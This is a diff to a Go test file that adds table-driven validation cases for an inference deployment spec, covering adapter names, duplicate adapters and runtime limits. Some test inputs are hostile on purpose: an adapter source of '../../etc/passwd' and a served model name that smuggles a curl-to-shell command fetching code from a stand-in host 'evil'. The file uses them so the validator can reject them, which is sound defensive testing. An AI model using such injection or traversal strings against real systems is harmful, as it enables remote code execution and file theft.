@@ -293,6 +293,17 @@ func TestValidateRules(t *testing.T) {
 		{"runtime unknown", inferenceSpec, func(s *Spec) { s.Inference.Runtime = "tgi" }, []string{"inference.runtime"}},
 		{"model missing", inferenceSpec, func(s *Spec) { s.Inference.Model = "" }, []string{"inference.model"}},
 		{"model bad", inferenceSpec, func(s *Spec) { s.Inference.Model = "a/b/c" }, []string{"inference.model"}},
+		{"adapter name with a colon", inferenceSpec, func(s *Spec) {
+			s.Inference.Adapters = []Adapter{{Name: "a:b", Source: "acme/lora"}}
+		}, []string{"inference.adapters[0].name"}},
+		{"adapter named twice, a source not a model", inferenceSpec, func(s *Spec) {
+			s.Inference.Adapters = []Adapter{{Name: "a", Source: "acme/lora"}, {Name: "a", Source: "../../etc/passwd"}}
+		}, []string{"inference.adapters[1].name", "inference.adapters[1].source"}},
+		{"adapters on parakeet", inferenceSpec, func(s *Spec) {
+			s.Inference.Runtime, s.Inference.Model, s.Inference.Args = RuntimeParakeet, ParakeetModel, nil
+			s.Inference.GPUsPerReplica, s.Resources.GPU = 1, 1
+			s.Inference.Adapters = []Adapter{{Name: "a", Source: "acme/lora"}}
+		}, []string{"inference.adapters"}},
 		{"routing unknown", inferenceSpec, func(s *Spec) { s.Inference.Routing = "round-robin" }, []string{"inference.routing"}},
 		{"served name bad", inferenceSpec, func(s *Spec) { s.Inference.ServedModelName = "my model" }, []string{"inference.servedModelName"}},
 		{"served name runs code in a snippet", inferenceSpec, func(s *Spec) { s.Inference.ServedModelName = "x';curl${IFS}evil|sh;'" }, []string{"inference.servedModelName"}},
